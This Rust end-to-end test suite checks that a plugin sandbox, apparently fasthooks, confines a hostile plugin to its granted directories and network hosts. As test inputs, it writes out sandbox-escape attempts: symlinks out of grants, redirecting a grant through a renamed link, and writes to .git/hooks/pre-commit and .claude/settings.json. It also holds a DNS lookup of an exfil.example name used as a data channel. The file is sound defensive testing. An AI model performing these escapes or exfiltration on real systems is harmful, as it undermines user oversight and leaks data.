//! A grant is the directory the user named and no more, whatever a plugin does inside it, end
//! to end through the real binaries with the hostile plugin's filesystem attacks:
//!
//! - a grant cannot be redirected: a link on a grant's path (made by anyone, moved there by a
//!   plugin) fails that plugin's grant at the next hook, with one line naming the link, and the
//!   other plugins of the command still answer;
//! - a plugin cannot create a link that leads out of its write grants;
//! - `.claude/` and `.git/` stay read-only inside a write grant (through `..`, links, renames and
//!   hard links too) unless the user adds `--allow-write-claude-and-git`.

use fasthooks_e2e::{Home, HookRun, plugin, prompt_event};
use std::path::Path;

/// The hostile plugin's `fs` operations run with `grants`: one result per operation.
fn fs(home: &Home, grants: &[&str], ops: &str) -> Vec<String> {
    let hostile = plugin("hostile");
    let mut args = vec!["--plugin", hostile.to_str().unwrap()];
    args.extend_from_slice(grants);
    let run = home.hook(&args, &prompt_event(&format!("fs {ops}")));
    assert_eq!(run.code, 0, "{}", run.stderr);
    results(&run)
}

fn results(run: &HookRun) -> Vec<String> {
    let context = run.stdout_json()["hookSpecificOutput"]["additionalContext"]
        .as_str()
        .unwrap_or_else(|| panic!("context in {}", run.stdout))
        .to_owned();
    serde_json::from_str(&context).unwrap()
}

fn path(dir: &Path, name: &str) -> String {
    dir.join(name).to_str().unwrap().to_owned()
}

fn assert_denied(results: &[String], at: usize, what: &str) {
    assert!(
        results[at].starts_with("denied:"),
        "{what} must be refused: {results:?}"
    );
}

fn assert_ok(results: &[String], at: usize, what: &str) {
    assert!(
        results[at].starts_with("ok:"),
        "{what} must work: {results:?}"
    );
}

#[test]
fn a_plugin_cannot_create_a_link_that_leaves_its_write_grant() {
    let home = Home::new();
    let root = tempfile::tempdir().unwrap();
    let w = root.path().join("w");
    std::fs::create_dir_all(w.join("sub")).unwrap();
    std::fs::write(root.path().join("secret.txt"), "outside").unwrap();
    let grant = w.to_str().unwrap();
    let ops = [
        format!("symlink ../secret.txt {}", path(&w, "up")),
        format!("symlink /etc {}", path(&w, "abs")),
        format!("symlink sub/../../secret.txt {}", path(&w, "dots")),
        format!("symlink sub {}", path(&w, "inside")),
        format!("symlink ../w/sub {}", path(&w, "around")),
    ];
    let out = fs(&home, &["--allow-write", grant], &ops.join("; "));
    assert_denied(&out, 0, "a relative link out of the grant");
    assert_denied(&out, 1, "an absolute link");
    assert_denied(&out, 2, "a link out of the grant through ..");
    assert_ok(&out, 3, "a link inside the grant");
    assert_ok(&out, 4, "a link that leaves and comes back into the grant");
    for name in ["up", "abs", "dots"] {
        assert!(
            std::fs::symlink_metadata(w.join(name)).is_err(),
            "{name} was not created"
        );
    }
    assert_eq!(
        std::fs::read_link(w.join("inside")).unwrap(),
        Path::new("sub")
    );
    assert!(
        home.log().contains("links must lead where it may write"),
        "the refusal is logged: {}",
        home.log()
    );
}

#[test]
fn a_grant_cannot_be_redirected_through_a_link() {
    let home = Home::new();
    let root = tempfile::tempdir().unwrap();
    let (w, outside) = (root.path().join("w"), root.path().join("outside"));
    std::fs::create_dir_all(w.join("sub")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), "not granted").unwrap();
    // A link the user (or any program) left inside the write grant: the sandbox never follows
    // it, but the host's grant resolution would, once the plugin moves it onto a grant's path.
    std::os::unix::fs::symlink(&outside, w.join("ext")).unwrap();
    let (w_text, sub) = (w.to_str().unwrap(), path(&w, "sub"));
    let grants = ["--allow-write", w_text, "--allow-read", &sub];

    // The attack of plugin A on itself (or on plugin B whose grant lies inside A's): replace
    // the granted directory with the link. (`x/..` makes the guest's libc resolve the path
    // from the write grant, not from the read grant of `sub` itself.)
    std::fs::create_dir(w.join("x")).unwrap();
    let via_w = path(&w, "x/../sub");
    let out = fs(
        &home,
        &grants,
        &format!("rmdir {via_w}; rename {} {via_w}", path(&w, "ext")),
    );
    assert_ok(&out, 0, "removing an empty directory in the write grant");
    assert_ok(&out, 1, "renaming inside the write grant");
    assert!(
        std::fs::symlink_metadata(&sub)
            .unwrap()
            .file_type()
            .is_symlink()
    );

    // The next hook: the grant of W/sub is refused (it is now a link), not followed to the
    // secret. The echo plugin in the same command still gives its answer.
    let (hostile, echo) = (plugin("hostile"), plugin("echo"));
    let mut event = prompt_event(&format!("fs read {sub}/secret.txt"));
    event["echo_response"] = serde_json::json!({"decision": "block", "reason": "echo's answer"});
    let mut args = vec!["--plugin", hostile.to_str().unwrap()];
    args.extend_from_slice(&grants);
    args.extend_from_slice(&["--plugin", echo.to_str().unwrap()]);
    let run = home.hook(&args, &event);
    assert!(
        !run.stdout.contains("not granted"),
        "the secret stays out: {}",
        run.stdout
    );
    assert_eq!(
        run.stdout_json()["reason"],
        "echo's answer",
        "{}",
        run.stdout
    );
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(lines.len(), 1, "{}", run.stderr);
    assert!(
        lines[0].contains("is a symbolic link") && lines[0].contains("real path"),
        "one line naming the cause and the fix: {}",
        lines[0]
    );
}

#[test]
fn claude_and_git_stay_read_only_inside_a_write_grant() {
    let home = Home::new();
    let project = tempfile::tempdir().unwrap();
    let p = project.path();
    for dir in [".claude", ".git/hooks", "src", "vendor/lib"] {
        std::fs::create_dir_all(p.join(dir)).unwrap();
    }
    let settings = r#"{"hooks": {}}"#;
    std::fs::write(p.join(".claude/settings.json"), settings).unwrap();
    std::fs::write(p.join(".git/config"), "[core]\n").unwrap();
    // Links the user made, which a plugin could try to write through.
    std::os::unix::fs::symlink(".claude", p.join("conf")).unwrap();
    std::os::unix::fs::symlink(".claude/settings.json", p.join("settings-link")).unwrap();
    let grant = p.to_str().unwrap();
    let at = |name: &str| path(p, name);
    let attacks = [
        format!("write {} {{}}", at(".claude/settings.json")),
        format!("write {} x", at(".claude/settings.local.json")),
        format!("write {} x", at(".git/hooks/pre-commit")),
        format!("append {} x", at(".git/config")),
        format!("write {} {{}}", at("src/../.claude/settings.json")),
        format!("write {} {{}}", at("conf/settings.json")),
        format!("write {} {{}}", at("settings-link")),
        format!("rename {} {}", at(".claude"), at("moved")),
        format!("link {} {}", at(".claude/settings.json"), at("hard")),
        format!("mkdir {}", at("vendor/lib/.git")),
        format!("remove {}", at(".claude/settings.json")),
        format!("symlink .claude/settings.json {}", at("new-link")),
    ];
    let allowed = [
        format!("write {} fine", at("src/main.rs")),
        format!("rename {} {}", at("src/main.rs"), at("src/lib.rs")),
        format!("read {}", at(".claude/settings.json")),
    ];
    let ops: Vec<String> = attacks.iter().chain(&allowed).cloned().collect();
    let out = fs(&home, &["--allow-write", grant], &ops.join("; "));
    for (i, attack) in attacks.iter().enumerate() {
        assert_denied(&out, i, attack);
    }
    for (i, op) in allowed.iter().enumerate() {
        assert_ok(&out, attacks.len() + i, op);
    }
    assert!(
        out[0].contains("ReadOnlyFilesystem"),
        "the guest is told it is read-only: {out:?}"
    );
    assert_eq!(
        std::fs::read_to_string(p.join(".claude/settings.json")).unwrap(),
        settings
    );
    assert_eq!(
        std::fs::read_to_string(p.join(".git/config")).unwrap(),
        "[core]\n"
    );
    for name in [
        ".claude/settings.local.json",
        ".git/hooks/pre-commit",
        "moved",
        "hard",
        "vendor/lib/.git",
        "new-link",
    ] {
        assert!(
            std::fs::symlink_metadata(p.join(name)).is_err(),
            "{name} was not created"
        );
    }
    assert!(
        home.log().contains("--allow-write-claude-and-git"),
        "the log names the flag: {}",
        home.log()
    );

    // The explicit flag lifts it.
    let out = fs(
        &home,
        &["--allow-write", grant, "--allow-write-claude-and-git"],
        &format!("write {} {{}}", at(".claude/settings.json")),
    );
    assert_ok(&out, 0, "writing .claude with --allow-write-claude-and-git");
    assert_eq!(
        std::fs::read_to_string(p.join(".claude/settings.json")).unwrap(),
        "{}"
    );
}

#[test]
fn a_grant_inside_git_was_asked_for_by_name() {
    let home = Home::new();
    let project = tempfile::tempdir().unwrap();
    let info = project.path().join(".git/info");
    std::fs::create_dir_all(&info).unwrap();
    let out = fs(
        &home,
        &["--allow-write", info.to_str().unwrap()],
        &format!("write {} target/", path(&info, "exclude")),
    );
    assert_ok(&out, 0, "writing inside a grant rooted in .git");
}

#[test]
fn a_net_grant_resolves_granted_names_only_and_when_connecting() {
    let home = Home::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let granted = format!("localhost:{port}");
    let ops = [
        "lookup stolen-secret-4242.exfil.example".to_owned(),
        "lookup localhost".to_owned(),
        format!("connect localhost {port}"),
        format!("connect 127.0.0.1 {}", port.wrapping_add(1)),
        "connect no-such-host.invalid 443".to_owned(),
        "connect example.com 443".to_owned(),
    ];
    // A granted name that does not resolve fails its own connections, nothing else: the
    // plugin still runs and answers.
    let out = fs(
        &home,
        &[
            "--allow-net",
            &granted,
            "--allow-net",
            "no-such-host.invalid",
        ],
        &ops.join("; "),
    );
    assert_denied(&out, 0, "looking up a name that was not granted");
    assert!(
        out[1].contains("127.0.0.1") || out[1].contains("::1"),
        "a granted name resolves: {out:?}"
    );
    assert_ok(&out, 2, "connecting to the granted host by name");
    assert_denied(&out, 3, "connecting to another port");
    assert_denied(
        &out,
        4,
        "connecting to a granted name that does not resolve",
    );
    assert_denied(&out, 5, "connecting to a host that was not granted");

    // A name the system would resolve (from /etc/hosts, no network needed) is refused when it
    // was not granted: lookups are a data channel, so no ungranted name reaches a resolver.
    let by_address = format!("127.0.0.1:{port}");
    let out = fs(
        &home,
        &["--allow-net", &by_address],
        &format!("lookup localhost; connect 127.0.0.1 {port}"),
    );
    assert_denied(&out, 0, "looking up localhost without a grant of the name");
    assert_ok(&out, 1, "connecting to the granted address");
}

/// A path no grant covers is the sandbox's refusal, not a missing file: the plugin sees
/// "permission denied", and the log says it is the sandbox and names the grant to add. The
/// empty `/` behind it shows nothing and takes nothing, and a plugin probing many paths gets
/// a bounded number of lines.
#[test]
fn a_path_outside_the_grants_is_refused_by_name_and_the_log_names_the_grant() {
    let home = Home::new();
    let root = tempfile::tempdir().unwrap();
    let granted = root.path().join("granted");
    std::fs::create_dir_all(&granted).unwrap();
    std::fs::write(granted.join("ok.txt"), "fine").unwrap();
    let hidden = root.path().join("hidden");
    std::fs::create_dir_all(&hidden).unwrap();
    std::fs::write(hidden.join("notes.txt"), "not granted").unwrap();
    let grant = granted.to_str().unwrap();
    let ops = format!(
        "read {}; read {}; write /planted.txt x; mkdir /planted",
        path(&granted, "ok.txt"),
        path(&hidden, "notes.txt")
    );
    let results = fs(&home, &["--allow-read", grant], &ops);
    assert_eq!(results[0], "ok:fine");
    assert_eq!(results[1], "denied:PermissionDenied", "{results:?}");
    assert!(results[2].starts_with("denied:"), "{results:?}");
    assert!(results[3].starts_with("denied:"), "{results:?}");
    let log = home.log();
    let hint = format!(
        "sandbox: \"{}\" is outside this plugin's grants",
        path(&hidden, "notes.txt")
    );
    assert!(log.contains(&hint), "{log}");
    assert!(
        log.contains(&format!(
            "add --allow-read \"{}\" after its --plugin",
            hidden.display()
        )),
        "{log}"
    );
    // The folder every plugin sees as `/` was removed as soon as it was opened: there is no
    // place on disk where anything could be put for the others to see.
    let left: Vec<String> = std::fs::read_dir(home.path().join("cache"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|name| name.contains("hidden-root"))
        .collect();
    assert!(left.is_empty(), "{left:?}");

    // Probing: 40 paths, at most 8 lines.
    let probes: Vec<String> = (0..40).map(|i| format!("read /probe-{i}")).collect();
    let results = fs(&home, &[], &probes.join("; "));
    assert!(
        results.iter().all(|r| r == "denied:PermissionDenied"),
        "{results:?}"
    );
    let lines = home.log().matches("sandbox: \"/probe-").count();
    assert_eq!(lines, 8, "bounded per instance");
}

/// fasthooks' own directories (compiled plugins, the store, the log) are out of reach of a
/// plugin granted a directory that holds them: it cannot read other plugins' log lines or
/// state, nor plant compiled code for the host to load, directly, through `..`, or through a
/// link someone else made.
#[test]
fn a_grant_that_holds_fasthooks_own_directories_does_not_reach_them() {
    let home = Home::new();
    let base = std::fs::canonicalize(home.path()).unwrap();
    // A first hook: the daemon is up, the log and the cache exist.
    assert_eq!(
        fs(&home, &[], "read /nothing")[0],
        "denied:PermissionDenied"
    );
    let work = base.join("work");
    std::fs::create_dir(&work).unwrap();
    std::os::unix::fs::symlink("../logs/fasthooks.log", work.join("log-link")).unwrap();
    let grant = base.to_str().unwrap();
    let ops = [
        format!("read {}", path(&base, "logs/fasthooks.log")),
        format!("read {}", path(&work, "../logs/fasthooks.log")),
        format!("read {}", path(&work, "log-link")),
        format!("write {} planted", path(&base, "cache/planted.cwasm")),
        format!("rename {} {}", path(&base, "cache"), path(&work, "cache")),
        format!("write {} fine", path(&work, "ok.txt")),
        format!("read {}", path(&work, "ok.txt")),
    ];
    let results = fs(&home, &["--allow-write", grant], &ops.join("; "));
    for (at, what) in [
        (0, "reading the log"),
        (1, "reading the log through .."),
        (2, "reading the log through a link"),
    ] {
        assert_eq!(
            results[at], "denied:PermissionDenied",
            "{what}: {results:?}"
        );
    }
    assert_denied(&results, 3, "writing into the compile cache");
    assert_denied(&results, 4, "moving the compile cache");
    assert_ok(&results, 5, "writing elsewhere in the grant");
    assert_eq!(results[6], "ok:fine", "{results:?}");
    assert!(!base.join("cache/planted.cwasm").exists());
    assert!(base.join("cache").is_dir());
    assert!(
        home.log().contains("fasthooks' own directory"),
        "the refusal is logged: {}",
        home.log()
    );
}

/// The empty `/` behind the grants: a plugin with write grants writing outside them is refused as
/// outside its grants, with the hint (not "no such file"); a grant of `/` itself is not
/// shadowed by it.
#[test]
fn writes_outside_the_grants_get_the_hint_and_a_grant_of_the_root_still_works() {
    let home = Home::new();
    let dir = tempfile::tempdir().unwrap();
    let granted = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::write(granted.join("readable.txt"), "seen").unwrap();
    let ops = "write /elsewhere/x.txt y; mkdir /planted";
    let results = fs(&home, &["--allow-write", granted.to_str().unwrap()], ops);
    assert_eq!(results[0], "denied:PermissionDenied", "{results:?}");
    assert_eq!(results[1], "denied:PermissionDenied", "{results:?}");
    let log = home.log();
    assert!(
        log.contains("sandbox: \"/elsewhere/x.txt\" is outside this plugin's grants"),
        "{log}"
    );
    assert!(
        !log.contains("hidden-root"),
        "no internal path in the log: {log}"
    );

    let results = fs(
        &home,
        &["--allow-read", "/"],
        &format!("read {}", path(&granted, "readable.txt")),
    );
    assert_eq!(results, ["ok:seen"]);
}
